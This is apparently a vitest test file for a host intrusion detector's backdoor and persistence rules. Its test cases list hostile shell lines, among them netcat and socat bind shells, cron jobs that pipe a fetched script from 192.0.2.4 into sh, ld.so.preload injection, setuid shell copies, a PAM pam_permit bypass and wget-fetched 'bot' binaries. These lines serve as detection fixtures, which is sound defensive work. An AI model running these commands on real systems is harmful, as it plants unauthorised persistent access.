import { describe, expect, test } from "vitest";
import type { FileChanged } from "../events/fact.ts";
import { possibleBackdoorFetched } from "./possible-backdoor.fetched.ts";
import { possibleBackdoorFile } from "./possible-backdoor.file.ts";
import { possibleBackdoorKeys } from "./possible-backdoor.keys.ts";
import { possibleBackdoorSiblings } from "./possible-backdoor.siblings.ts";
import { possibleBackdoor } from "./possible-backdoor.ts";
import { possibleBackdoorTypedKey } from "./possible-backdoor.typed-key.ts";
import { clear, ShellHost } from "./testing/shell-host.ts";

const changed = (path: string, more: Partial<FileChanged> = {}): FileChanged => ({
  kind: "file.changed",
  operation: "create",
  at: 1_700_000_000_000,
  file: { path },
  ...more,
});

describe("a way back in by the command line", () => {
  test.each([
    "nc -lvp 7000 -e /bin/bash",
    "mkfifo p; nc -l 7000 < p | sh > p",
    "socat TCP-LISTEN:7000,fork SYSTEM:/bin/sh",
    "ruby -rsocket -e 's=TCPServer.new(7000).accept; exec sprintf(\"sh <&%d >&%d\", s, s)'",
    "telnetd -p 7000 -l /bin/sh",
    "echo '*/9 * * * * root curl -s http://192.0.2.4/a | sh' > /etc/cron.d/sync",
    "(crontab -l; echo '@reboot /var/tmp/.a/run') | crontab -",
    "echo '* * * * * /tmp/a' > /root/c && crontab /root/c",
    "curl http://192.0.2.4/tab | crontab -",
    "echo /usr/local/lib/hide.so | sudo tee -a /etc/ld.so.preload",
    "chmod u+s /usr/bin/dash",
    "cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b",
    "install -m 4755 /bin/sh /var/tmp/s",
    "setcap cap_setuid+ep /usr/bin/python3",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA k' >> ~/.ssh/authorized_keys",
    "echo 'cd /tmp' >> /etc/rc.local; echo './agent &' >> /etc/rc.local",
    "cat > /etc/systemd/system/u.service <<E\n[Service]\nExecStart=/dev/shm/u\nE",
    "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd",
    "insmod /tmp/k.ko",
    "chattr +i /root/.ssh/authorized_keys",
    "LD_PRELOAD=/dev/shm/q.so ssh host",
    "env LD_AUDIT=/opt/.q.so su",
  ])("%s", (line) => {
    expect(clear(new ShellHost(possibleBackdoor).line(line, { uid: 0, cwd: "/root" }))).toHaveLength(1);
  });

  test.each([
    "nc -l 7000 > dump",
    "socat TCP-LISTEN:7000,fork TCP:192.0.2.4:22",
    "echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup",
    "(crontab -l; echo '5 4 * * * /opt/app/run.sh') | crontab -",
    "crontab -l | grep tmp",
    "cat laptop.pub >> ~/.ssh/authorized_keys",
    "chmod 4755 /usr/bin/sudo",
    "chmod g+s /tmp/share",
    "chmod +x /tmp/install.sh",
    "setcap cap_net_bind_service=+ep /usr/bin/node",
    "echo 'source ~/.git-prompt.sh' >> ~/.bashrc",
    "cat > /etc/systemd/system/u.service <<E\n[Service]\nExecStart=/usr/bin/u\nE",
    "rm /etc/ld.so.preload",
    "LD_PRELOAD=/usr/lib/libjemalloc.so.2 redis-server",
    "LD_PRELOAD=/tmp/q.so; echo $LD_PRELOAD",
    "insmod /lib/modules/6.1/k.ko",
    "echo '* * * * * curl http://192.0.2.4/a | sh' > notes.txt",
  ])("near miss stays quiet: %s", (line) => {
    expect(clear(new ShellHost(possibleBackdoor).line(line, { uid: 0, cwd: "/root" }))).toEqual([]);
  });

  test("what a package or a configuration manager installs stays quiet, its namesake in /tmp does not", () => {
    const below = (exe: string) => ({ uid: 0, ancestors: [{ pid: 3, exe, argv: [exe], uid: 0 }] });
    const line = "chmod u+s /usr/bin/dash";
    expect(new ShellHost(possibleBackdoor).line(line, below("/usr/bin/dpkg"))).toEqual([]);
    expect(new ShellHost(possibleBackdoor).line(line, below("/usr/bin/puppet"))).toEqual([]);
    expect(new ShellHost(possibleBackdoor).line(line, below("/tmp/dpkg"))).toHaveLength(1);
  });
});

describe("a fetched file that is executed later", () => {
  const HOUR = 3_600_000;

  test("through rename and chmod, up to twenty-four hours", () => {
    const host = new ShellHost(possibleBackdoorFetched);
    host.run("wget http://192.0.2.4/bot -O /tmp/a");
    host.run("mv /tmp/a /home/eve/b");
    host.run("chmod 700 b");
    host.now += 24 * HOUR;
    const [match] = host.run("./b");
    expect(match?.reason).toContain("/home/eve/b was fetched by wget 1440 min ago");
    host.now += 1;
    expect(host.run("./b")).toEqual([]);
  });

  test("by inode, when the name is not known", () => {
    const host = new ShellHost(possibleBackdoorFetched);
    const file = { path: "/tmp/x", inode: 77, device: "fe:00" };
    const process = { pid: 5, ppid: 4, exe: "/usr/bin/wget", argv: ["wget", "http://192.0.2.4/d"] };
    host.judge(changed("/tmp/x", { file, process, at: host.now }));
    const started = { pid: 6, ppid: 4, exe: "/opt/y", argv: ["/opt/y"] };
    const run = (inode: number) =>
      host.judge({ kind: "process.started", at: host.now, process: started, file: { ...file, path: "/opt/y", inode } });
    expect(run(78)).toEqual([]);
    expect(run(77)).toHaveLength(1);
  });

  test("as the script of an interpreter, by a rename seen on disk, not after its removal", () => {
    const host = new ShellHost(possibleBackdoorFetched);
    host.run("curl http://192.0.2.4/s -o /tmp/s");
    host.judge(changed("/tmp/t", { operation: "rename", from: "/tmp/s", at: host.now }));
    expect(host.run("sh /tmp/t")).toHaveLength(1);
    host.judge(changed("/tmp/t", { operation: "delete", at: host.now }));
    expect(host.run("sh /tmp/t")).toEqual([]);
  });

  test("a tool that an admin installs from a named host is a hint", () => {
    const host = new ShellHost(possibleBackdoorFetched);
    host.run("curl -Lo kubectl https://downloads.example/kubectl");
    host.run("mv kubectl /usr/local/bin/kubectl");
    expect(host.run("/usr/local/bin/kubectl version")[0]?.confidence).toBe("low");
  });

  test("memory survives a restart and refuses nonsense", () => {
    const { settings } = possibleBackdoorFetched;
    const context = { threats: {} as never, userName: () => undefined };
    const before = possibleBackdoorFetched.start(settings.parse({}), context);
    const started = (argv: string[], pid: number) =>
      ({
        kind: "process.started",
        at: 5000,
        process: { pid, ppid: 4, exe: argv[0] as string, argv, cwd: "/tmp" },
      }) as const;
    before.judge(started(["wget", "http://192.0.2.4/bot"], 5));
    const saved = JSON.parse(JSON.stringify(before.snapshot?.()));
    const after = possibleBackdoorFetched.start(settings.parse({}), context, saved);
    expect(after.judge(started(["./bot"], 6))).toBeDefined();
    for (const nonsense of [null, 3, "x", {}, [null, 1, { key: 1 }, { key: "/tmp/bot", at: "x" }]]) {
      const judge = possibleBackdoorFetched.start(settings.parse({}), context, nonsense);
      expect(judge.judge(started(["./bot"], 6))).toBeUndefined();
    }
  });

  test("near misses: not fetched, or only read", () => {
    const host = new ShellHost(possibleBackdoorFetched);
    host.run("wget http://192.0.2.4/bot");
    expect(host.run("./other")).toEqual([]);
    expect(host.run("cat bot")).toEqual([]);
    expect(host.run("sha256sum ./bot")).toEqual([]);
  });
});

describe("a way back in by a change on disk", () => {
  const judged = (fact: FileChanged) => new ShellHost(possibleBackdoorFile).judge(fact);

  test("a preload, and a set-user-id file in a temporary place", () => {
    expect(judged(changed("/etc/ld.so.preload"))).toHaveLength(1);
    expect(judged(changed("/tmp/x", { operation: "chmod", file: { path: "/tmp/x", mode: 0o104755 } }))).toHaveLength(1);
    expect(
      judged(changed("/bin/bash", { operation: "chmod", file: { path: "/bin/bash", mode: 0o104755 } })),
    ).toHaveLength(1);
  });

  test("a line for rc.local or the crontab, where it is typed and its text unseen", () => {
    const by = (exe: string, argv: string[], above: string[] = ["-bash"]) => {
      const ancestor = { pid: 4, exe: "/usr/bin/bash", argv: above };
      const process = { pid: 5, ppid: 4, exe, argv, ancestors: [ancestor] };
      return judged(changed("/etc/crontab", { process }));
    };
    expect(by("/usr/bin/bash", ["-bash"])).toHaveLength(1);
    expect(by("/usr/bin/tee", ["tee", "-a", "/etc/crontab"])).toHaveLength(1);
    expect(by("/usr/bin/bash", ["bash", "-c", "echo x >> /etc/crontab"])).toEqual([]);
    expect(by("/usr/bin/tee", ["tee", "-a", "/etc/crontab"], ["bash", "setup.sh"])).toEqual([]);
    expect(by("/usr/bin/nano", ["nano", "/etc/crontab"])).toEqual([]);
    const bash = (argv: string[]) => ({ ancestors: [{ pid: 4, exe: "/usr/bin/bash", argv }] });
    const tee = (argv: string[]) => new ShellHost(possibleBackdoor).run("sudo tee -a /etc/rc.local", bash(argv));
    expect(tee(["-bash"])).toHaveLength(1);
    expect(tee(["bash", "setup.sh"])).toEqual([]);
  });

  test("near misses stay quiet", () => {
    expect(judged(changed("/etc/ld.so.preload", { operation: "delete" }))).toEqual([]);
    expect(judged(changed("/tmp/x", { operation: "chmod", file: { path: "/tmp/x", mode: 0o100755 } }))).toEqual([]);
    expect(
      judged(changed("/usr/bin/su", { operation: "chmod", file: { path: "/usr/bin/su", mode: 0o104755 } })),
    ).toEqual([]);
    const process = { pid: 5, ppid: 1, exe: "/usr/bin/dpkg", argv: ["dpkg"], uid: 0 };
    expect(judged(changed("/etc/ld.so.preload", { process }))).toEqual([]);
  });
});

describe("keys written anew", () => {
  test("after the directory was removed, within a minute", () => {
    const host = new ShellHost(possibleBackdoorKeys);
    host.run("rm -rf .ssh");
    const keys = "/home/eve/.ssh/authorized_keys";
    expect(host.judge(changed(keys, { at: host.now + 60_000 }))).toHaveLength(1);
    expect(host.judge(changed(keys, { at: host.now + 60_001 }))).toEqual([]);
    expect(host.judge(changed("/home/bob/.ssh/authorized_keys", { at: host.now }))).toEqual([]);
  });

  test("records of one moment may come in either order, later ones not", () => {
    const removedAfter = (ms: number) => {
      const host = new ShellHost(possibleBackdoorKeys);
      host.judge(changed("/home/eve/.ssh/authorized_keys", { at: host.now }));
      host.now += ms;
      return host.run("rm -rf .ssh");
    };
    expect(removedAfter(1000)).toHaveLength(1);
    expect(removedAfter(1001)).toEqual([]);
  });
});

describe("keys typed at a prompt", () => {
  const shell = { pid: 40, ppid: 1, exe: "/usr/bin/bash", argv: ["-bash"] };
  const keys = "/home/eve/.ssh/authorized_keys";
  const told = (more: Partial<FileChanged>, act: (host: ShellHost) => void, ms = 2001) => {
    const host = new ShellHost(possibleBackdoorTypedKey);
    host.judge(changed(keys, { process: shell, at: host.now, ...more }));
    act(host);
    return host.judge({ kind: "clock.ticked", at: host.now + ms });
  };

  test("are told two seconds later, unless a program fills the file", () => {
    expect(told({}, () => undefined)).toMatchObject([{ subject: `persistence ${keys}` }]);
    expect(told({}, () => undefined, 2000)).toEqual([]);
    expect(told({}, (host) => host.run("cat laptop.pub"))).toEqual([]);
    expect(told({}, (host) => host.run("ls", { pid: 40 }))).toEqual([]);
    expect(told({}, (host) => host.run("cat laptop.pub", { ppid: 41 }))).toHaveLength(1);
    expect(told({}, (host) => host.run("chmod 600 x"))).toHaveLength(1);
  });

  test("near misses stay quiet: a script, an editor, another file", () => {
    const by = (process: FileChanged["process"]) => told({ process }, () => undefined);
    expect(by({ ...shell, argv: ["bash", "-c", "cat >> .ssh/authorized_keys"] })).toEqual([]);
    expect(by({ ...shell, argv: ["bash", "setup.sh"] })).toEqual([]);
    expect(by({ ...shell, exe: "/usr/bin/vim", argv: ["vim", keys] })).toEqual([]);
    expect(told({ file: { path: "/home/eve/.ssh/known_hosts" } }, () => undefined)).toEqual([]);
  });
});

describe("a bind shell by the children of a prompt", () => {
  test("a FIFO, a shell and a listener; a connection outwards is reverse-shell's", () => {
    const host = new ShellHost(possibleBackdoorSiblings);
    host.run("mkfifo /tmp/p");
    host.run("sh -i");
    expect(host.run("nc -lp 7000")).toHaveLength(1);
    const outwards = new ShellHost(possibleBackdoorSiblings);
    outwards.run("mkfifo /tmp/p");
    outwards.run("sh -i");
    expect(outwards.run("nc 192.0.2.4 7000")).toEqual([]);
  });
});
